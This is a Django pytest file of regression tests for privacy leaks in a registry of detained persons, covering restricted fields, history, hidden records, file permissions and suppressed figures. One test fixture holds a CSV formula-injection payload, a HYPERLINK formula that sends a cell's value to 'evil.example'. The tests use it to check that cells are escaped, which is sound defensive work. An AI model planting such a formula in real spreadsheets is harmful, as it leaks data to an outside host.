"""Regression tests of the leaks closed in issue #8, one section each (docs/security.md,
"Leaks closed and how they are tested"). Each failed on the main branch before its fix."""

import json

import pytest
from django.contrib.contenttypes.models import ContentType

from tests.factories import make_custody, make_person
from tests.publishing.helpers import zip_tables
from vigil.accounts.models import ApiToken
from vigil.dates import PartialDate
from vigil.registry import models as m

pytestmark = pytest.mark.django_db
SHARED = m.Visibility.COALITION


def seen_by(client, user, path, api=False):
    client.force_login(user)
    if api:
        _record, token = ApiToken.issue(user, "leak test")
        response = client.get(path, HTTP_AUTHORIZATION=f"Bearer {token}")
    else:
        response = client.get(path)
    assert response.status_code == 200, path
    return response.content.decode()


# 1. A citation's claim and locator carry the class of the field they cite -----------------


@pytest.fixture
def health_claim(org_a, coalition, source_a):
    person = make_person(org_a, visibility=SHARED, health="HEALTH-VALUE")
    source_a.visibility = SHARED
    source_a.save()
    m.Citation.objects.create(
        organisation=org_a, visibility=SHARED, source=source_a,
        content_type=ContentType.objects.get_for_model(person), object_id=person.pk,
        field="health", claimed_value="CLAIM-OF-HEALTH", locator="QUOTE-OF-HEALTH")
    m.Citation.objects.create(
        organisation=org_a, visibility=SHARED, source=source_a,
        content_type=ContentType.objects.get_for_model(person), object_id=person.pk,
        field="gender", claimed_value="CLAIM-OF-GENDER", locator="page 4")
    return person, source_a


@pytest.mark.parametrize("reader", ["viewer_a", "documenter_b"])
def test_a_claim_about_a_restricted_field_is_withheld_with_the_field(
        client, health_claim, reader, request):
    person, source = health_claim
    user = request.getfixturevalue(reader)
    pages = seen_by(client, user, f"/persons/{person.pk}/") + seen_by(
        client, user, f"/sources/{source.pk}/")
    assert "CLAIM-OF-HEALTH" not in pages and "QUOTE-OF-HEALTH" not in pages
    assert "CLAIM-OF-GENDER" in pages  # a claim about a public field stays visible


def test_the_owner_sees_the_claim_about_a_restricted_field(client, health_claim, documenter_a):
    person, source = health_claim
    page = seen_by(client, documenter_a, f"/persons/{person.pk}/")
    assert "CLAIM-OF-HEALTH" in page and "QUOTE-OF-HEALTH" in page


# 2. History judges a past value by the strictest class its field has had -----------------


@pytest.fixture
def reclassified_report(org_a, coalition, condition_type, documenter_a):
    person = make_person(org_a, visibility=SHARED)
    report = m.ConditionReport.objects.create(
        person=person, organisation=org_a, visibility=SHARED, condition=condition_type,
        started=m.ConditionReport._meta.get_field("started").to_python("2022-03-01"),
        description="TEXT-ONCE-PUBLIC", description_sensitivity=m.Sensitivity.PUBLIC)
    report.description_sensitivity = m.Sensitivity.RESTRICTED
    report.save()
    return person, report


@pytest.mark.parametrize("reader", ["viewer_a", "documenter_b"])
def test_history_withholds_a_description_made_restricted_later(
        client, reclassified_report, reader, request):
    person, report = reclassified_report
    user = request.getfixturevalue(reader)
    assert "TEXT-ONCE-PUBLIC" not in seen_by(client, user, f"/persons/{person.pk}/history/")
    assert "TEXT-ONCE-PUBLIC" not in seen_by(
        client, user, f"/api/v1/persons/{person.pk}/conditions/{report.pk}", api=True)


def test_history_still_shows_the_owner_the_old_text(client, reclassified_report, documenter_a):
    person, _report = reclassified_report
    assert "TEXT-ONCE-PUBLIC" in seen_by(client, documenter_a, f"/persons/{person.pk}/history/")


def test_history_shows_a_description_that_was_always_public(
        client, org_a, coalition, condition_type, documenter_b):
    person = make_person(org_a, visibility=SHARED)
    m.ConditionReport.objects.create(
        person=person, organisation=org_a, visibility=SHARED, condition=condition_type,
        started=m.ConditionReport._meta.get_field("started").to_python("2022-03-01"),
        description="TEXT-ALWAYS-PUBLIC", description_sensitivity=m.Sensitivity.PUBLIC)
    assert "TEXT-ALWAYS-PUBLIC" in seen_by(client, documenter_b,
                                           f"/persons/{person.pk}/history/")


# 3. Validation says nothing about records the actor may not see ---------------------------


@pytest.fixture
def hidden_custody(org_a, coalition):
    """A's person shared with B; A's administrative arrest is A's alone."""
    person = make_person(org_a, visibility=SHARED)
    hidden = m.CustodyPeriod(person=person, organisation=org_a,
                             visibility=m.Visibility.ORGANISATION, kind="administrative",
                             end_reason="served")
    hidden.set_partial("started", PartialDate.parse("2024-01-10"))
    hidden.set_partial("ended", PartialDate.parse("2024-01-25"))
    hidden.save()
    return person


def custody_form(**fields):
    return {"kind": "pretrial", "visibility": "organisation", **fields}


def test_an_overlap_with_a_period_one_may_not_see_is_not_described(
        client, hidden_custody, documenter_b, org_b):
    client.force_login(documenter_b)
    response = client.post(f"/persons/{hidden_custody.pk}/custody/new/",
                           custody_form(started="2024-01-15", ended="2024-01-20",
                                        end_reason="released"))
    assert response.status_code == 302
    assert b"2024-01-10" not in response.content and b"administrative" not in response.content
    # B's own account of the detention is kept beside A's; neither is changed
    assert m.CustodyPeriod.objects.filter(person=hidden_custody, organisation=org_b).count() == 1
    assert m.CustodyPeriod.objects.get(person=hidden_custody, organisation__slug="org-a"
                                       ).partial("started") == PartialDate.parse("2024-01-10")


def test_the_api_says_nothing_about_a_hidden_overlap(client, hidden_custody, documenter_b):
    _record, token = ApiToken.issue(documenter_b, "t")
    response = client.post(
        f"/api/v1/persons/{hidden_custody.pk}/custody", content_type="application/json",
        data=json.dumps(custody_form(started="2024-01-12")),
        HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 201
    assert b"2024-01-10" not in response.content


def test_an_overlap_with_a_period_one_sees_is_still_refused(
        client, hidden_custody, documenter_a):
    client.force_login(documenter_a)
    response = client.post(f"/persons/{hidden_custody.pk}/custody/new/",
                           custody_form(started="2024-01-15"))
    assert response.status_code == 400
    assert "overlaps another custody period" in response.text
    assert m.CustodyPeriod.objects.filter(person=hidden_custody).count() == 1


def test_a_linked_record_one_may_not_see_is_not_offered_in_a_form(
        client, org_a, org_b, coalition, documenter_b):
    person = make_person(org_a, visibility=SHARED)
    m.Statement.objects.create(organisation=org_a, title="PRIVATE-STATEMENT-OF-A",
                               published_on=PartialDate.parse("2023-05-21").first_day,
                               text="x")
    page = seen_by(client, documenter_b, f"/persons/{person.pk}/recognition/new/")
    assert "PRIVATE-STATEMENT-OF-A" not in page


# 5. Deleted records are history for administrators only -----------------------------------


@pytest.fixture
def deleted_report(org_a, condition_type, documenter_a):
    person = make_person(org_a)
    report = m.ConditionReport.objects.create(
        person=person, organisation=org_a, condition=condition_type,
        started=PartialDate.parse("2022-03-01").first_day, description="DELETED-REPORT")
    report.soft_delete(documenter_a)
    return person


@pytest.mark.parametrize("reader, shown", [("viewer_a", False), ("documenter_a", False),
                                           ("admin_a", True)])
def test_a_deleted_record_is_in_history_for_administrators_only(
        client, deleted_report, reader, shown, request):
    page = seen_by(client, request.getfixturevalue(reader),
                   f"/persons/{deleted_report.pk}/history/")
    assert ("DELETED-REPORT" in page) is shown


# 6. No id of a record the reader may not see -----------------------------------------------


@pytest.fixture
def report_on_hidden_custody(org_a, coalition, condition_type):
    person = make_person(org_a, visibility=SHARED)
    custody = make_custody(person, "2021-07-14")
    custody.visibility = m.Visibility.ORGANISATION
    custody.save()
    report = m.ConditionReport.objects.create(
        person=person, organisation=org_a, visibility=SHARED, condition=condition_type,
        custody=custody, started=custody.started, description_sensitivity="public")
    return person, custody, report


def test_an_api_answer_holds_no_id_of_a_record_the_reader_may_not_see(
        client, report_on_hidden_custody, documenter_b, documenter_a):
    person, custody, report = report_on_hidden_custody
    path = f"/api/v1/persons/{person.pk}/conditions/{report.pk}"
    assert json.loads(seen_by(client, documenter_b, path, api=True))["custody"] is None
    listed = json.loads(seen_by(client, documenter_b, f"/api/v1/persons/{person.pk}/conditions",
                                api=True))
    assert listed["results"][0]["custody"] is None
    assert json.loads(seen_by(client, documenter_a, path, api=True))["custody"] == custody.pk


def test_history_holds_no_id_of_a_record_the_reader_may_not_see(
        client, report_on_hidden_custody, documenter_b):
    person, custody, _report = report_on_hidden_custody
    page = seen_by(client, documenter_b, f"/persons/{person.pk}/history/")
    assert f"Custody period</b>: — → {custody.pk}<" not in page
    assert "Custody period</b>: [withheld]" in page


# 7. No CSV cell is a formula; no list is named like one -------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.fixture
def formula_decision(org_a, documenter_a):
    from django.utils import timezone

    from vigil.lists.models import MatchDecision

    return MatchDecision.objects.create(
        organisation=org_a, a_list=FORMULA, a_id="+375291234567", b_list="viasna", b_id="7",
        same=True, decided_by=documenter_a, decided_at=timezone.now())


def cells_of(text):
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_decisions_csv_escapes_every_cell(client, formula_decision, admin_a):
    client.force_login(admin_a)
    cells = cells_of(client.get("/lists/decisions.csv").content.decode())
    assert "'" + FORMULA in cells and "'+375291234567" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_export_decisions_escapes_every_cell(formula_decision, org_a):
    import io

    from django.core.management import call_command

    out = io.StringIO()
    call_command("export_decisions", "--org", org_a.slug, stdout=out)
    cells = cells_of(out.getvalue())
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_a_list_named_like_a_formula_is_refused_on_the_page(client, documenter_a):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from vigil.lists.models import PendingImport

    client.force_login(documenter_a)
    upload = SimpleUploadedFile("list.csv", b"id,name\n1,Ales Bialiatski\n")
    response = client.post("/lists/import/", {"file": upload, "list_name": FORMULA})
    assert response.status_code == 400
    assert "formula" in response.content.decode()
    assert not PendingImport.objects.exists()


def test_a_list_named_like_a_formula_is_refused_by_the_command(org_a, tmp_path):
    from django.core.management import CommandError, call_command

    from vigil.lists.models import ListVersion

    path = tmp_path / "list.csv"
    path.write_text("id,name\n1,Ales Bialiatski\n")
    with pytest.raises(CommandError, match="formula"):
        call_command("import_list", str(path), "--org", org_a.slug, "--list-name", "@SUM(1)")
    assert not ListVersion.objects.exists()


# 9. The server prints where the demo logins are, never the passwords; tests stay in tmp ----


def test_serve_prints_the_path_of_the_logins_never_a_password(settings, tmp_path, monkeypatch):
    import io

    from django.core.management import call_command

    from vigil.registry.demo.logins import DEMO_USERS, write_logins
    from vigil.web.management.commands import serve

    settings.VAR_DIR = tmp_path
    path = write_logins({user.username: f"SECRET-{user.username}" for user in DEMO_USERS},
                        {"viasna-admin": "SECRET-KEY\tSECRET-CODES"})
    served = []
    for name in serve.SERVERS:
        monkeypatch.setitem(serve.SERVERS, name, lambda **options: served.append(options))
    out = io.StringIO()
    call_command("serve", "--port", "8123", stdout=out)
    assert [options["port"] for options in served] == [8123]
    assert str(path) in out.getvalue() and "SECRET-" not in out.getvalue()


def test_the_suite_keeps_var_outside_the_checkout():
    from pathlib import Path

    from django.conf import settings

    checkout = Path(__file__).resolve().parents[2]
    assert not Path(settings.VAR_DIR).resolve().is_relative_to(checkout)


# 10. var/, the SQLite database and the secret key are the owner's alone ---------------------


def test_var_the_database_and_the_secret_key_are_created_private(tmp_path):
    import subprocess
    import sys

    var = tmp_path / "var"
    done = subprocess.run(  # noqa: S603
        [sys.executable, "-m", "vigil.cli", "check"], capture_output=True, text=True,
        env={"VIGIL_VAR_DIR": str(var), "PATH": "/usr/bin"}, timeout=120)
    assert done.returncode == 0, done.stderr
    assert var.stat().st_mode & 0o777 == 0o700
    assert (var / "vigil.sqlite3").stat().st_mode & 0o777 == 0o600
    assert (var / "secret_key").stat().st_mode & 0o777 == 0o600


def test_an_existing_world_readable_var_is_made_private(tmp_path):
    from vigil.env import private_dir, private_file

    var = tmp_path / "var"
    var.mkdir(mode=0o755)
    database = var / "vigil.sqlite3"
    database.write_bytes(b"")
    database.chmod(0o644)
    private_file(private_dir(var) / "vigil.sqlite3")
    assert var.stat().st_mode & 0o777 == 0o700
    assert database.stat().st_mode & 0o777 == 0o600


# 4. A release is no window on its publisher's private records ------------------------------


def counted(org, name, visibility, gender, since="2021-01-01"):
    from tests.publishing.helpers import recognise

    person = make_person(org, name=name, visibility=visibility, gender=gender)
    make_custody(person, since)
    recognise(person, since=since)
    return person


@pytest.fixture
def gender_release(org_a, admin_a):
    """A's release by gender: female 2 public + 1 organisation-only, male 6 and unknown 5
    organisation-only."""
    import datetime as dt

    from vigil.figures import FigureDefinition
    from vigil.publishing.population import Scope
    from vigil.publishing.service import compute, publish

    public, private = m.Visibility.PUBLIC, m.Visibility.ORGANISATION
    for i, (visibility, gender) in enumerate(
            [(public, "female")] * 2 + [(private, "female")] + [(private, "male")] * 6
            + [(private, "unknown")] * 5):
        counted(org_a, f"Person {i}", visibility, gender)
    definition = FigureDefinition.stock(dt.date(2023, 4, 30), recognised_by=("org-a",))
    return publish(compute(Scope.whole_registry(), definition, by="gender"), org_a, admin_a)


def breakdown_cells(page):
    import re

    return dict(re.findall(r"<tr><td>([a-z]+)</td><td>(.*?)</td></tr>", page))


def test_small_breakdown_cells_of_hidden_persons_are_suppressed(
        client, gender_release, documenter_b, documenter_a):
    path = f"/figures/releases/{gender_release.slug}/"
    cells = breakdown_cells(seen_by(client, documenter_b, path))
    # female holds 1 person B may not see: suppressed; unknown (5 hidden) goes with it, so
    # that female cannot be worked out from the total; male (6 hidden) stays
    assert cells == {"male": "6", "unknown": "<em>not shown</em>",
                     "female": "<em>not shown</em>"}
    assert breakdown_cells(seen_by(client, documenter_a, path)) == {
        "male": "6", "unknown": "5", "female": "3"}
    client.force_login(documenter_b)
    rows = zip_tables(client.get(f"{path}figure.zip"))["breakdown.csv"]
    female = next(row for row in rows if row[1] == "female")
    assert female[2:] == ["", "suppressed (fewer than 5 persons you may not see)"]


def test_what_changed_since_is_not_recounted_for_another_organisation(
        client, gender_release, org_a, documenter_b, viewer_a):
    counted(org_a, "Learned Late", m.Visibility.ORGANISATION, "female", since="2022-06-01")
    path = f"/figures/releases/{gender_release.slug}/"
    other = seen_by(client, documenter_b, path)
    assert "counted today" not in other and "15" not in other.split("What changed since")[1]
    assert "Only Organisation A sees" in other
    assert "1 person counted today but not in the release" in seen_by(client, viewer_a, path)


def test_the_publisher_is_warned_before_publishing_organisation_only_persons(
        client, org_a, admin_a):
    from vigil.publishing.models import Release

    counted(org_a, "Private Person", m.Visibility.ORGANISATION, "female")
    client.force_login(admin_a)
    query = {"kind": "stock", "as_of": "2023-04-30", "recognised_by": "org-a"}
    page = client.get("/figures/", query).content.decode()
    assert "1 person counted is recorded as organisation only" in page
    asked = client.post("/figures/publish/", query).content.decode()
    assert 'name="confirm_organisation_only"' in asked and "1 person counted" in asked
    refused = client.post("/figures/publish/", {**query, "confirmed": "1"})
    assert refused.status_code == 400 and "Tick the box" in refused.content.decode()
    assert not Release.objects.exists()
    published = client.post("/figures/publish/", {**query, "confirmed": "1",
                                                   "confirm_organisation_only": "1"})
    assert published.status_code == 302 and Release.objects.count() == 1


def test_an_import_never_matches_a_row_to_a_custody_period_it_may_not_see(
        org_a, org_b, coalition, documenter_b):
    from tests.lists.helpers import csv_bytes, run_import

    person = make_person(org_a, name="Бяляцкі Алесь", visibility=SHARED,
                         birth_date=PartialDate.parse("1962-09-25").first_day)
    hidden = make_custody(person, "2021-07-14")
    hidden.visibility = m.Visibility.ORGANISATION
    hidden.save()
    version, plan = run_import(csv_bytes([
        {"id": "1", "name": "Бяляцкі Алесь", "birth_date": "25.09.1962",
         "detained_on": "2021-07-14"}]), org_b, documenter_b, list_name="baj")
    assert [p.outcome for p in plan.rows] == ["matched"]
    # B's list gives B its own account of the detention; A's hidden period is not touched
    assert m.CustodyPeriod.objects.filter(person=person, organisation=org_b).count() == 1
    assert not m.Citation.objects.filter(
        content_type=ContentType.objects.get_for_model(m.CustodyPeriod), object_id=hidden.pk)
